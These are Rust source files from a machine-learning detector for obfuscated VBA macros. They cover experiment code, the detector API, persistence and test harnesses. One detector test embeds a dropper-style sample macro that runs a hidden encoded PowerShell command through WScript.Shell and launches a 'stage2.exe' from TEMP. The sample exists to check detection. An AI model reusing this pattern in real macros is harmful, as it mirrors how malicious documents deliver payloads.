            labels.push(m.obfuscated);
        }
        ExperimentData {
            macros,
            v,
            j,
            labels,
        }
    }

    /// The feature matrix for one set.
    pub fn features(&self, set: FeatureSet) -> &[Vec<f64>] {
        match set {
            FeatureSet::V => &self.v,
            FeatureSet::J => &self.j,
        }
    }
}

/// One classifier × feature-set evaluation (a row of Table V, a bar of
/// Figure 6, and — for the best performers — a curve of Figure 7).
#[derive(Debug, Clone)]
pub struct ClassifierEval {
    /// Which classifier.
    pub classifier: ClassifierKind,
    /// Which feature set.
    pub feature_set: FeatureSet,
    /// Pooled out-of-fold accuracy.
    pub accuracy: f64,
    /// Pooled precision.
    pub precision: f64,
    /// Pooled recall.
    pub recall: f64,
    /// Pooled F2 (the paper's headline metric).
    pub f2: f64,
    /// AUC over pooled out-of-fold scores.
    pub auc: f64,
    /// ROC points `(fpr, tpr)` for Figure 7.
    pub roc: Vec<(f64, f64)>,
}

/// Cross-validates one classifier on one feature set (paper: k = 10).
pub fn evaluate(
    data: &ExperimentData,
    set: FeatureSet,
    kind: ClassifierKind,
    k: usize,
    seed: u64,
) -> ClassifierEval {
    let outcome: CvOutcome = cross_validate(
        || kind.build(seed),
        data.features(set),
        &data.labels,
        k,
        seed,
    );
    let confusion = outcome.confusion();
    ClassifierEval {
        classifier: kind,
        feature_set: set,
        accuracy: confusion.accuracy(),
        precision: confusion.precision(),
        recall: confusion.recall(),
        f2: confusion.f_beta(2.0),
        auc: outcome.auc(),
        roc: vbadet_ml::roc_curve(&outcome.labels, &outcome.scores),
    }
}

/// Table V / Figure 6 / Figure 7: every classifier × both feature sets.
pub fn evaluate_all(data: &ExperimentData, k: usize, seed: u64) -> Vec<ClassifierEval> {
    let mut out = Vec::with_capacity(10);
    for set in [FeatureSet::V, FeatureSet::J] {
        for kind in ClassifierKind::ALL {
            out.push(evaluate(data, set, kind, k, seed));
        }
    }
    out
}

/// A Table III row: macro counts and obfuscation rate per population.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct MacroSummary {
    /// Unique macros in this population.
    pub macros: usize,
    /// Of which obfuscated.
    pub obfuscated: usize,
}

impl MacroSummary {
    /// Percentage obfuscated.
    pub fn obfuscation_rate(&self) -> f64 {
        if self.macros == 0 {
            0.0
        } else {
            self.obfuscated as f64 / self.macros as f64
        }
    }
}

/// Table III: `(benign, malicious)` macro summaries.
pub fn table3(macros: &[MacroSample]) -> (MacroSummary, MacroSummary) {
    let mut benign = MacroSummary {
        macros: 0,
        obfuscated: 0,
    };
    let mut malicious = MacroSummary {
        macros: 0,
        obfuscated: 0,
    };
    for m in macros {
        let row = if m.malicious {
            &mut malicious
        } else {
            &mut benign
        };
        row.macros += 1;
        if m.obfuscated {
            row.obfuscated += 1;
        }
    }
    (benign, malicious)
}

/// Table II: builds every document of the corpus (streaming) and returns
/// `(benign, malicious)` file summaries. Heavy at full paper scale
/// (~1 GB of container bytes are generated and discarded).
pub fn table2(spec: &CorpusSpec, macros: &[MacroSample]) -> (FileSummary, FileSummary) {
    DocumentFactory::new(spec, macros).for_each(|_| {})
}

/// Figure 5: `(non_obfuscated_lengths, obfuscated_lengths)`.
pub fn fig5(macros: &[MacroSample]) -> (Vec<usize>, Vec<usize>) {
    vbadet_corpus::macros::length_profile(macros)
}

/// The V-feature groups by the obfuscation technique they target (§IV.C),
/// used by the ablation study. Indices are 0-based into V1–V15.
pub const V_FEATURE_GROUPS: [(&str, &[usize]); 5] = [
    ("O4: size/words (V1-V4)", &[0, 1, 2, 3]),
    ("O2: strings/operators (V5-V7)", &[4, 5, 6]),
    ("O3: function categories (V8-V11)", &[7, 8, 9, 10]),
    ("rich functionality (V12)", &[11]),
    ("O1: entropy/identifiers (V13-V15)", &[12, 13, 14]),
];

/// One ablation row: the feature group removed and the resulting metrics.
#[derive(Debug, Clone)]
pub struct AblationRow {
    /// Human-readable group label.
    pub group: &'static str,
    /// F2 with the group removed.
    pub f2: f64,
    /// AUC with the group removed.
    pub auc: f64,
    /// F2 drop relative to the full feature set (positive = the group was
    /// pulling its weight).
    pub f2_drop: f64,
}

/// Ablation study over the V-feature groups: retrains `kind` with each
/// group removed and reports the F2/AUC deltas. Quantifies §IV.C's claim
/// that "different combinations of features are required for an effective
/// detection" of each technique.
pub fn ablate_v_groups(
    data: &ExperimentData,
    kind: ClassifierKind,
    k: usize,
    seed: u64,
) -> (ClassifierEval, Vec<AblationRow>) {
    let baseline = evaluate(data, FeatureSet::V, kind, k, seed);
    let mut rows = Vec::with_capacity(V_FEATURE_GROUPS.len());
    for (group, drop) in V_FEATURE_GROUPS {
        let reduced: Vec<Vec<f64>> = data
            .v
            .iter()
            .map(|row| {
                row.iter()
                    .enumerate()
                    .filter(|(i, _)| !drop.contains(i))
                    .map(|(_, &v)| v)
                    .collect()
            })
            .collect();
        let outcome = crate::experiment::cv_on_matrix(kind, &reduced, &data.labels, k, seed);
        let confusion = outcome.confusion();
        rows.push(AblationRow {
            group,
            f2: confusion.f_beta(2.0),
            auc: outcome.auc(),
            f2_drop: baseline.f2 - confusion.f_beta(2.0),
        });
    }
    (baseline, rows)
}

/// Cross-validates a classifier on an arbitrary (already extracted)
/// feature matrix — the primitive behind the ablation study.
pub fn cv_on_matrix(
    kind: ClassifierKind,
    x: &[Vec<f64>],
    y: &[bool],
    k: usize,
    seed: u64,
) -> CvOutcome {
    cross_validate(|| kind.build(seed), x, y, k, seed)
}

/// One point of a learning curve.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct LearningPoint {
    /// Training samples used.
    pub train_size: usize,
    /// F2 on the held-out evaluation set.
    pub f2: f64,
    /// AUC on the held-out evaluation set.
    pub auc: f64,
}

/// Learning curve: F2/AUC on a fixed held-out third of the corpus as the
/// training set grows through `fractions` of the remaining two thirds.
/// Answers the deployment question the paper leaves open: how much labeled
/// data does the method need?
pub fn learning_curve(
    data: &ExperimentData,
    set: FeatureSet,
    kind: ClassifierKind,
    fractions: &[f64],
    seed: u64,
) -> Vec<LearningPoint> {
    use vbadet_ml::StandardScaler;
    let x = data.features(set);
    let folds = vbadet_ml::stratified_kfold(&data.labels, 3, seed);
    let test_idx = &folds[0];
    let train_pool: Vec<usize> = folds[1].iter().chain(folds[2].iter()).copied().collect();

    let mut out = Vec::with_capacity(fractions.len());
    for &fraction in fractions {
        let take =
            ((train_pool.len() as f64 * fraction).round() as usize).clamp(4, train_pool.len());
        // Keep at least one sample of each class.
        let mut train_idx: Vec<usize> = train_pool[..take].to_vec();
        if !train_idx.iter().any(|&i| data.labels[i]) {
            if let Some(&pos) = train_pool.iter().find(|&&i| data.labels[i]) {
                train_idx.push(pos);
            }
        }
        if !train_idx.iter().any(|&i| !data.labels[i]) {
            if let Some(&neg) = train_pool.iter().find(|&&i| !data.labels[i]) {
                train_idx.push(neg);
            }
        }

        let train_x: Vec<Vec<f64>> = train_idx.iter().map(|&i| x[i].clone()).collect();
        let train_y: Vec<bool> = train_idx.iter().map(|&i| data.labels[i]).collect();
        let scaler = StandardScaler::fit(&train_x);
        let mut model = kind.build(seed);
        model.fit(&scaler.transform_all(&train_x), &train_y);

        let mut predictions = Vec::with_capacity(test_idx.len());
        let mut scores = Vec::with_capacity(test_idx.len());
        let mut truth = Vec::with_capacity(test_idx.len());
        for &i in test_idx {
            let s = model.decision_function(&scaler.transform(&x[i]));
            scores.push(s);
            predictions.push(s >= 0.0);
            truth.push(data.labels[i]);
        }
        let confusion = vbadet_ml::ConfusionMatrix::from_predictions(&truth, &predictions);
        out.push(LearningPoint {
            train_size: train_idx.len(),
            f2: confusion.f_beta(2.0),
            auc: vbadet_ml::auc(&truth, &scores),
        });
    }
    out
}

/// One row of the SVM hyperparameter sweep.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SvmSweepPoint {
    /// Regularization C.
    pub c: f64,
    /// RBF width γ.
    pub gamma: f64,
    /// Cross-validated F2.
    pub f2: f64,
}

/// Sweeps SVM (C, γ) over a grid, cross-validating each on the V features —
/// sanity-checking the paper's §IV.D choice of `C=150, γ=0.03`.
pub fn sweep_svm(
    data: &ExperimentData,
    cs: &[f64],
    gammas: &[f64],
    k: usize,
    seed: u64,
) -> Vec<SvmSweepPoint> {
    let mut out = Vec::with_capacity(cs.len() * gammas.len());
    for &c in cs {
        for &gamma in gammas {
            let outcome = cross_validate(
                || Box::new(vbadet_ml::SvmRbf::new(c, gamma)),
                &data.v,
                &data.labels,
                k,
                seed,
            );
            out.push(SvmSweepPoint {
                c,
                gamma,
                f2: outcome.confusion().f_beta(2.0),
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn data() -> ExperimentData {
        ExperimentData::from_spec(&CorpusSpec::paper().scaled(0.04))
    }

    #[test]
    fn feature_matrices_are_aligned() {
        let d = data();
        assert_eq!(d.v.len(), d.macros.len());
        assert_eq!(d.j.len(), d.macros.len());
        assert_eq!(d.labels.len(), d.macros.len());
        assert!(d.v.iter().all(|r| r.len() == 15));
        assert!(d.j.iter().all(|r| r.len() == 20));
    }

    #[test]
    fn rf_on_v_features_separates_the_corpus() {
        let d = data();
        let eval = evaluate(&d, FeatureSet::V, ClassifierKind::RandomForest, 5, 1);
        assert!(eval.accuracy > 0.9, "accuracy {}", eval.accuracy);
        assert!(eval.auc > 0.9, "auc {}", eval.auc);
        assert!(eval.roc.len() >= 2);
    }

    #[test]
    fn v_features_beat_j_features_for_rf() {
        // The paper's headline comparison, on a scaled corpus with the
        // fastest strong classifier.
        let d = data();
        let v = evaluate(&d, FeatureSet::V, ClassifierKind::RandomForest, 5, 2);
        let j = evaluate(&d, FeatureSet::J, ClassifierKind::RandomForest, 5, 2);
        assert!(v.f2 >= j.f2, "V F2 {} must not lose to J F2 {}", v.f2, j.f2);
    }

    #[test]
    fn table3_rates_match_spec() {
        let spec = CorpusSpec::paper().scaled(0.05);
        let macros = generate_macros(&spec);
        let (benign, malicious) = table3(&macros);
        assert_eq!(benign.macros, spec.benign_macros);
        assert_eq!(malicious.obfuscated, spec.malicious_obfuscated);
        assert!(malicious.obfuscation_rate() > 0.9);
        assert!(benign.obfuscation_rate() < 0.05);
    }

    #[test]
    fn fig5_groups_lengths() {
        let spec = CorpusSpec::paper().scaled(0.05);
        let macros = generate_macros(&spec);
        let (plain, obf) = fig5(&macros);
        assert_eq!(plain.len() + obf.len(), macros.len());
        assert_eq!(
            obf.len(),
            spec.benign_obfuscated + spec.malicious_obfuscated
        );
    }
}
