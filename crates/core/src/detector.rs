//! The public detection API: train a classifier on labeled macros, then
//! score raw macro source or whole documents.

use crate::extract::extract_macros;
use crate::DetectError;
use vbadet_corpus::{generate_macros, CorpusSpec};
use vbadet_features::FeatureSet;
use vbadet_ml::{
    BernoulliNb, Classifier, LinearDiscriminant, MlpClassifier, RandomForest, StandardScaler,
    SvmRbf,
};

/// Which of the paper's five classifiers backs the detector.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ClassifierKind {
    /// Support Vector Machine, RBF kernel, `C = 150`, `γ = 0.03` (§IV.D).
    Svm,
    /// Random Forest, 100 trees, √d features per split.
    RandomForest,
    /// Multi-Layer Perceptron, one 32-unit hidden layer.
    Mlp,
    /// Linear Discriminant Analysis.
    Lda,
    /// Bernoulli Naive Bayes.
    BernoulliNb,
}

impl ClassifierKind {
    /// All five, in the paper's Table V order.
    pub const ALL: [ClassifierKind; 5] = [
        ClassifierKind::Svm,
        ClassifierKind::RandomForest,
        ClassifierKind::Mlp,
        ClassifierKind::Lda,
        ClassifierKind::BernoulliNb,
    ];

    /// Instantiates an untrained classifier with the paper's
    /// hyperparameters.
    pub fn build(self, seed: u64) -> Box<dyn Classifier> {
        match self {
            ClassifierKind::Svm => Box::new(SvmRbf::new(150.0, 0.03)),
            ClassifierKind::RandomForest => Box::new(RandomForest::with_seed(100, 0, seed)),
            ClassifierKind::Mlp => Box::new(MlpClassifier::with_seed(&[32], 150, 0.02, seed)),
            ClassifierKind::Lda => Box::new(LinearDiscriminant::new()),
            ClassifierKind::BernoulliNb => Box::new(BernoulliNb::new(1.0)),
        }
    }

    /// Display name as used in the paper's tables.
    pub fn name(self) -> &'static str {
        match self {
            ClassifierKind::Svm => "SVM",
            ClassifierKind::RandomForest => "RF",
            ClassifierKind::Mlp => "MLP",
            ClassifierKind::Lda => "LDA",
            ClassifierKind::BernoulliNb => "BNB",
        }
    }
}

impl std::fmt::Display for ClassifierKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Detector configuration.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct DetectorConfig {
    /// Feature set; the paper's proposal is [`FeatureSet::V`].
    pub feature_set: FeatureSet,
    /// Backing classifier; MLP scored the best F2 in the paper.
    pub classifier: ClassifierKind,
    /// Seed for stochastic classifiers.
    pub seed: u64,
}

impl Default for DetectorConfig {
    fn default() -> Self {
        DetectorConfig {
            feature_set: FeatureSet::V,
            classifier: ClassifierKind::Mlp,
            seed: 0xD5,
        }
    }
}

/// Verdict for one macro.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Verdict {
    /// Decision at the default threshold.
    pub obfuscated: bool,
    /// Raw decision score (positive ⇒ obfuscated; magnitude ≈ confidence).
    pub score: f64,
}

/// Verdict for one module of a scanned document.
#[derive(Debug, Clone, PartialEq)]
pub struct ModuleVerdict {
    /// Module name inside the VBA project.
    pub module_name: String,
    /// The verdict for its source.
    pub verdict: Verdict,
}

/// Reusable per-worker scoring state: the fused extractor's lexer and
/// token-pass buffers plus the feature and standardized vectors. Cleared
/// per module, capacity retained, so steady-state scoring allocates
/// nothing.
#[derive(Debug, Default)]
pub struct ScoreScratch {
    fx: vbadet_features::FeatureScratch,
    features: Vec<f64>,
    scaled: Vec<f64>,
}

/// A trained obfuscation detector.
///
/// See the crate-level example. Train either on your own labeled macros
/// ([`Detector::train`]) or on the calibrated synthetic corpus
/// ([`Detector::train_on_corpus`]).
pub struct Detector {
    config: DetectorConfig,
    scaler: StandardScaler,
    model: Box<dyn Classifier>,
}

impl std::fmt::Debug for Detector {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Detector")
            .field("config", &self.config)
            .field("model", &self.model.name())
            .finish_non_exhaustive()
    }
}

impl Detector {
    /// Trains on `(source, is_obfuscated)` pairs.
    ///
    /// # Panics
    ///
    /// Panics when `samples` is empty.
    pub fn train<'a, I>(config: &DetectorConfig, samples: I) -> Self
    where
        I: IntoIterator<Item = (&'a str, bool)>,
    {
        let mut x = Vec::new();
        let mut y = Vec::new();
        for (source, label) in samples {
            x.push(config.feature_set.extract(source));
            y.push(label);
        }
        assert!(!x.is_empty(), "training set must be non-empty");
        let scaler = StandardScaler::fit(&x);
        let x = scaler.transform_all(&x);
        let mut model = config.classifier.build(config.seed);
        model.fit(&x, &y);
        Detector {
            config: *config,
            scaler,
            model,
        }
    }

    /// Trains on a synthetic corpus generated from `spec`.
    pub fn train_on_corpus(config: &DetectorConfig, spec: &CorpusSpec) -> Self {
        let macros = generate_macros(spec);
        Self::train(
            config,
            macros.iter().map(|m| (m.source.as_str(), m.obfuscated)),
        )
    }

    /// The configuration the detector was trained with.
    pub fn config(&self) -> &DetectorConfig {
        &self.config
    }

    /// Scores one macro's source code.
    pub fn score(&self, source: &str) -> Verdict {
        let features = self.config.feature_set.extract(source);
        let z = self.scaler.transform(&features);
        let score = self.model.decision_function(&z);
        Verdict {
            obfuscated: score >= 0.0,
            score,
        }
    }

    /// Stage 1 of the split hot path: extracts this detector's feature
    /// set into `scratch`'s reusable buffers and returns the vector.
    /// Bit-identical to `config.feature_set.extract(source)`.
    pub fn extract_with<'s>(&self, scratch: &'s mut ScoreScratch, source: &str) -> &'s [f64] {
        let v = scratch.fx.extract(self.config.feature_set, source);
        scratch.features.clear();
        scratch.features.extend_from_slice(v);
        &scratch.features
    }

    /// Stage 2 of the split hot path: standardizes and classifies the
    /// features last written by [`Detector::extract_with`].
    pub fn predict_with(&self, scratch: &mut ScoreScratch) -> Verdict {
        self.scaler
            .transform_into(&scratch.features, &mut scratch.scaled);
        let score = self.model.decision_function(&scratch.scaled);
        Verdict {
            obfuscated: score >= 0.0,
            score,
        }
    }

    /// Allocation-free equivalent of [`Detector::score`]: fused
    /// extraction into `scratch`, then in-place standardization and
    /// classification. Bit-identical verdicts.
    pub fn score_with(&self, scratch: &mut ScoreScratch, source: &str) -> Verdict {
        self.extract_with(scratch, source);
        self.predict_with(scratch)
    }

    /// Scores a precomputed feature vector (must match this detector's
    /// feature set width). Oracle API for equivalence tests.
    pub fn score_features(&self, features: &[f64]) -> Verdict {
        let z = self.scaler.transform(features);
        let score = self.model.decision_function(&z);
        Verdict {
            obfuscated: score >= 0.0,
            score,
        }
    }

    /// Whether one macro looks obfuscated.
    pub fn is_obfuscated(&self, source: &str) -> bool {
        self.score(source).obfuscated
    }

    /// Extracts and scores every macro module of a document
    /// (`.doc`/`.xls`/`.docm`/`.xlsm`/`vbaProject.bin` bytes).
    ///
    /// # Errors
    ///
    /// Propagates container/VBA parsing failures; see [`extract_macros`].
    pub fn scan_document(&self, bytes: &[u8]) -> Result<Vec<ModuleVerdict>, DetectError> {
        let macros = extract_macros(bytes)?;
        Ok(macros
            .into_iter()
            .map(|m| ModuleVerdict {
                verdict: self.score(&m.code),
                module_name: m.module_name,
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use vbadet_obfuscate::{Obfuscator, Technique};

    fn trained() -> Detector {
        // 0.1 scale: smaller draws hold too few lightly-obfuscated
        // examples for verdicts to generalize beyond the training draw.
        let spec = CorpusSpec::paper().scaled(0.1);
        Detector::train_on_corpus(&DetectorConfig::default(), &spec)
    }

    #[test]
    fn detects_freshly_obfuscated_code() {
        let detector = trained();
        // A plain macro with real string content (paths, messages) so the
        // string-hiding techniques have something to transform.
        let plain = "Attribute VB_Name = \"Module1\"\r\n\
                     Sub ExportReport()\r\n\
                     \x20   Dim target As String\r\n\
                     \x20   target = \"C:\\Reports\\quarterly_summary.csv\"\r\n\
                     \x20   ActiveSheet.Copy\r\n\
                     \x20   ActiveWorkbook.SaveAs Filename:=target, FileFormat:=6\r\n\
                     \x20   MsgBox \"Saved the quarterly report to \" & target\r\n\
                     End Sub\r\n";
        assert!(!detector.is_obfuscated(plain), "plain business macro");

        let mut rng = rand::rngs::StdRng::seed_from_u64(77);
        let obfuscated = Obfuscator::new()
            .with(Technique::Split)
            .with(Technique::Encoding)
            .with(Technique::LogicWithIntensity(40))
            .with(Technique::Random)
            .apply(plain, &mut rng)
            .source;
        assert!(
            detector.is_obfuscated(&obfuscated),
            "same macro after O1-O4"
        );
    }

    #[test]
    fn scores_are_ordered_by_obviousness() {
        let detector = trained();
        let plain = "Sub A()\r\n    MsgBox \"hello there operator\"\r\nEnd Sub\r\n";
        let mut rng = rand::rngs::StdRng::seed_from_u64(5);
        let heavy = Obfuscator::new()
            .with(Technique::Split)
            .with(Technique::Encoding)
            .with(Technique::LogicWithIntensity(60))
            .with(Technique::Random)
            .apply(plain, &mut rng)
            .source;
        assert!(detector.score(&heavy).score > detector.score(plain).score);
    }

    #[test]
    fn scan_document_end_to_end() {
        let detector = trained();
        let mut project = vbadet_ovba::VbaProjectBuilder::new("P");
        project.add_module(
            "ThisDocument",
            "Sub Document_Open()\r\n    Call Helper\r\nEnd Sub\r\n",
        );
        let mut rng = rand::rngs::StdRng::seed_from_u64(9);
        let obf = Obfuscator::new()
            .with(Technique::Split)
            .with(Technique::Encoding)
            .with(Technique::LogicWithIntensity(60))
            .with(Technique::Random)
            .apply(
                "Sub Helper()\r\n\
                 \x20   Dim sh As Object\r\n\
                 \x20   Set sh = CreateObject(\"WScript.Shell\")\r\n\
                 \x20   sh.Run \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\", 0, False\r\n\
                 \x20   Shell Environ(\"TEMP\") & \"\\stage2.exe\", 0\r\n\
                 End Sub\r\n",
                &mut rng,
            )
            .source;
        project.add_module("Module1", &obf);
        let bytes = project.build().unwrap();
        let verdicts = detector.scan_document(&bytes).unwrap();
        assert_eq!(verdicts.len(), 2);
        let module1 = verdicts
            .iter()
            .find(|v| v.module_name == "Module1")
            .unwrap();
        assert!(module1.verdict.obfuscated);
    }

    #[test]
    fn score_with_matches_score_bitwise() {
        let spec = CorpusSpec::paper().scaled(0.02);
        let macros = generate_macros(&spec);
        for set in [FeatureSet::V, FeatureSet::J] {
            let config = DetectorConfig {
                feature_set: set,
                ..DetectorConfig::default()
            };
            let detector = Detector::train(
                &config,
                macros.iter().map(|m| (m.source.as_str(), m.obfuscated)),
            );
            let mut scratch = ScoreScratch::default();
            for m in macros.iter().take(30) {
                let fast = detector.score_with(&mut scratch, &m.source);
                let slow = detector.score(&m.source);
                assert_eq!(fast.score.to_bits(), slow.score.to_bits(), "{set}");
                assert_eq!(fast.obfuscated, slow.obfuscated);
                let features = config.feature_set.extract(&m.source);
                let oracle = detector.score_features(&features);
                assert_eq!(fast.score.to_bits(), oracle.score.to_bits(), "{set}");
            }
        }
    }

    #[test]
    fn all_classifier_kinds_train_and_score() {
        let spec = CorpusSpec::paper().scaled(0.015);
        let macros = generate_macros(&spec);
        for kind in ClassifierKind::ALL {
            let config = DetectorConfig {
                classifier: kind,
                ..DetectorConfig::default()
            };
            let detector = Detector::train(
                &config,
                macros.iter().map(|m| (m.source.as_str(), m.obfuscated)),
            );
            let v = detector.score("Sub A()\r\n    x = 1\r\nEnd Sub\r\n");
            assert!(v.score.is_finite(), "{kind}");
        }
    }
}

// --- persistence ----------------------------------------------------------

impl ClassifierKind {
    /// Stable tag used in saved detector files.
    fn tag(self) -> &'static str {
        match self {
            ClassifierKind::Svm => "svm",
            ClassifierKind::RandomForest => "rf",
            ClassifierKind::Mlp => "mlp",
            ClassifierKind::Lda => "lda",
            ClassifierKind::BernoulliNb => "bnb",
        }
    }

    fn from_tag(tag: &str) -> Option<Self> {
        Some(match tag {
            "svm" => ClassifierKind::Svm,
            "rf" => ClassifierKind::RandomForest,
            "mlp" => ClassifierKind::Mlp,
            "lda" => ClassifierKind::Lda,
            "bnb" => ClassifierKind::BernoulliNb,
            _ => return None,
        })
    }

    /// Restores a model of this kind from its serialized text.
    fn load_model(self, text: &str) -> Result<Box<dyn Classifier>, String> {
        Ok(match self {
            ClassifierKind::Svm => Box::new(SvmRbf::from_text(text).map_err(|e| e.to_string())?),
            ClassifierKind::RandomForest => {
                Box::new(RandomForest::from_text(text).map_err(|e| e.to_string())?)
            }
            ClassifierKind::Mlp => {
                Box::new(MlpClassifier::from_text(text).map_err(|e| e.to_string())?)
            }
            ClassifierKind::Lda => {
                Box::new(LinearDiscriminant::from_text(text).map_err(|e| e.to_string())?)
            }
            ClassifierKind::BernoulliNb => {
                Box::new(BernoulliNb::from_text(text).map_err(|e| e.to_string())?)
            }
        })
    }
}

/// Error restoring a saved detector.
#[derive(Debug)]
pub struct LoadError(String);

impl std::fmt::Display for LoadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "cannot load detector: {}", self.0)
    }
}

impl std::error::Error for LoadError {}

impl Detector {
    /// Serializes the trained detector (config, scaler, model) to text.
    pub fn save(&self) -> String {
        let feature_tag = match self.config.feature_set {
            FeatureSet::V => "v",
            FeatureSet::J => "j",
        };
        format!(
            "vbadet-detector v1\nfeatures {feature_tag}\nclassifier {}\nseed {}\n--scaler--\n{}--model--\n{}",
            self.config.classifier.tag(),
            self.config.seed,
            self.scaler.to_text(),
            self.model.save_text(),
        )
    }

    /// Restores a detector saved by [`Detector::save`].
    ///
    /// # Errors
    ///
    /// Fails on malformed text or an unknown classifier/feature tag.
    pub fn load(text: &str) -> Result<Self, LoadError> {
        let mut lines = text.lines();
        if lines.next() != Some("vbadet-detector v1") {
            return Err(LoadError("bad header".to_string()));
        }
        let feature_set = match lines.next().and_then(|l| l.strip_prefix("features ")) {
            Some("v") => FeatureSet::V,
            Some("j") => FeatureSet::J,
            other => return Err(LoadError(format!("bad features line: {other:?}"))),
        };
        let classifier = lines
            .next()
            .and_then(|l| l.strip_prefix("classifier "))
            .and_then(ClassifierKind::from_tag)
            .ok_or_else(|| LoadError("bad classifier line".to_string()))?;
        let seed: u64 = lines
            .next()
            .and_then(|l| l.strip_prefix("seed "))
            .and_then(|s| s.parse().ok())
            .ok_or_else(|| LoadError("bad seed line".to_string()))?;

        let rest = text
            .split_once("--scaler--\n")
            .ok_or_else(|| LoadError("missing scaler section".to_string()))?
            .1;
        let (scaler_text, model_text) = rest
            .split_once("--model--\n")
            .ok_or_else(|| LoadError("missing model section".to_string()))?;
        let scaler =
            StandardScaler::from_text(scaler_text).map_err(|e| LoadError(e.to_string()))?;
        let model = classifier.load_model(model_text).map_err(LoadError)?;
        Ok(Detector {
            config: DetectorConfig {
                feature_set,
                classifier,
                seed,
            },
            scaler,
            model,
        })
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;

    #[test]
    fn save_load_roundtrip_for_every_classifier() {
        let spec = CorpusSpec::paper().scaled(0.01);
        let macros = generate_macros(&spec);
        let samples: Vec<(&str, bool)> = macros
            .iter()
            .map(|m| (m.source.as_str(), m.obfuscated))
            .collect();
        for kind in ClassifierKind::ALL {
            let config = DetectorConfig {
                classifier: kind,
                ..DetectorConfig::default()
            };
            let detector = Detector::train(&config, samples.iter().copied());
            let text = detector.save();
            let loaded = Detector::load(&text).unwrap_or_else(|e| panic!("{kind}: {e}"));
            for (source, _) in samples.iter().take(20) {
                assert_eq!(
                    detector.score(source).score.to_bits(),
                    loaded.score(source).score.to_bits(),
                    "{kind}: scores must be bit-identical after reload"
                );
            }
        }
    }

    #[test]
    fn malformed_detector_text_rejected() {
        assert!(Detector::load("").is_err());
        assert!(Detector::load("vbadet-detector v1\nfeatures q\n").is_err());
        assert!(Detector::load("vbadet-detector v1\nfeatures v\nclassifier nope\n").is_err());
    }
}
