//! Umbrella crate for the workspace: hosts cross-crate integration tests
//! (`tests/`) and runnable examples (`examples/`). The actual library lives
//! in the `vbadet` crate and its substrate crates.

pub use vbadet;
pub use vbadet_corpus as corpus;
pub use vbadet_features as features;
pub use vbadet_ml as ml;
pub use vbadet_obfuscate as obfuscate;
pub use vbadet_ole as ole;
pub use vbadet_ovba as ovba;
pub use vbadet_vba as vba;
pub use vbadet_zip as zip;
