//! Worker-process shim for the process-isolation integration tests
//! (`tests/isolation.rs`).
//!
//! The whole binary is one isolation worker: it speaks the supervisor's
//! frame protocol on stdin/stdout from the moment it starts (no
//! subcommand dispatch — tests point `IsolateConfig::new` straight at
//! `CARGO_BIN_EXE_isolation_worker`). The tracking allocator is installed
//! so `ScanPolicy::max_scan_mem` ceilings actually trip inside the
//! worker, exactly as in the production `vbadet` binary.

#[global_allocator]
static ALLOC: vbadet::TrackingAllocator = vbadet::TrackingAllocator;

fn main() {
    std::process::exit(vbadet::worker_main());
}
