//! Reload chaos soak for `vbadet serve`: a real daemon under concurrent
//! client load while an operator thread hammers it with model hot-reloads
//! — two alternating good models, a garbage file, and faultpoint-injected
//! corrupt loads of good files.
//!
//! ```text
//! reload_soak <path-to-vbadet-binary> <successful-reloads>
//! ```
//!
//! The `vbadet` binary must be built with `--features faultpoints` (the
//! injected corrupt loads ride in via `VBADET_FAULTPOINTS`). Asserted
//! invariants, the hot-reload contract of DESIGN.md §13:
//!
//! 1. **Zero dropped or misrouted responses** — every request line gets
//!    exactly one terminal response on its own connection, correlation
//!    ids intact, and the daemon's drain accounting agrees with the
//!    clients' tallies.
//! 2. **Every scan response carries a valid generation stamp** — in
//!    `1..=final`, and non-decreasing per connection (admission pins the
//!    live generation; it only ever moves forward).
//! 3. **Generation conservation** — the final generation is exactly
//!    `1 + successful reloads`: every success mints one generation,
//!    every failure (garbage file, injected corruption) mints none.
//! 4. **Old-generation cache entries miss** — a document cached warm
//!    under one generation is re-scanned (a cache miss) after the next
//!    successful reload, because the bound key embeds the new detector
//!    fingerprint.
//! 5. **Graceful SIGTERM drain** — exit code 3, a parseable final
//!    metrics dump whose `reload.*` counts match the operator's tallies,
//!    and zero orphaned `__worker` processes.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use vbadet::{Detector, DetectorConfig, ScanMetrics};
use vbadet_corpus::CorpusSpec;
use vbadet_ovba::VbaProjectBuilder;

const CLIENTS: usize = 6;

/// Shared response tallies across the client and reloader threads.
#[derive(Default)]
struct Tally {
    sent: AtomicU64,
    ok_scan: AtomicU64,
    other_ok: AtomicU64,
    reload_ok: AtomicU64,
    reload_failed: AtomicU64,
}

struct Client {
    writer: UnixStream,
    reader: BufReader<UnixStream>,
}

impl Client {
    fn connect(sock: &Path) -> Client {
        let writer = UnixStream::connect(sock).expect("connect to daemon socket");
        writer
            .set_read_timeout(Some(Duration::from_secs(60)))
            .unwrap();
        let reader = BufReader::new(writer.try_clone().unwrap());
        Client { writer, reader }
    }

    /// One request line, one response line; a lost response hangs the
    /// read and trips its timeout — that IS the dropped-response detector.
    fn roundtrip(&mut self, tally: &Tally, line: &str) -> String {
        self.writer
            .write_all(format!("{line}\n").as_bytes())
            .unwrap();
        tally.sent.fetch_add(1, Ordering::Relaxed);
        let mut reply = String::new();
        let n = self
            .reader
            .read_line(&mut reply)
            .unwrap_or_else(|e| panic!("no response to {line:?} within the timeout: {e}"));
        assert!(
            n > 0,
            "daemon closed the connection instead of answering {line:?}"
        );
        reply.trim().to_string()
    }
}

fn field_u64(line: &str, key: &str) -> u64 {
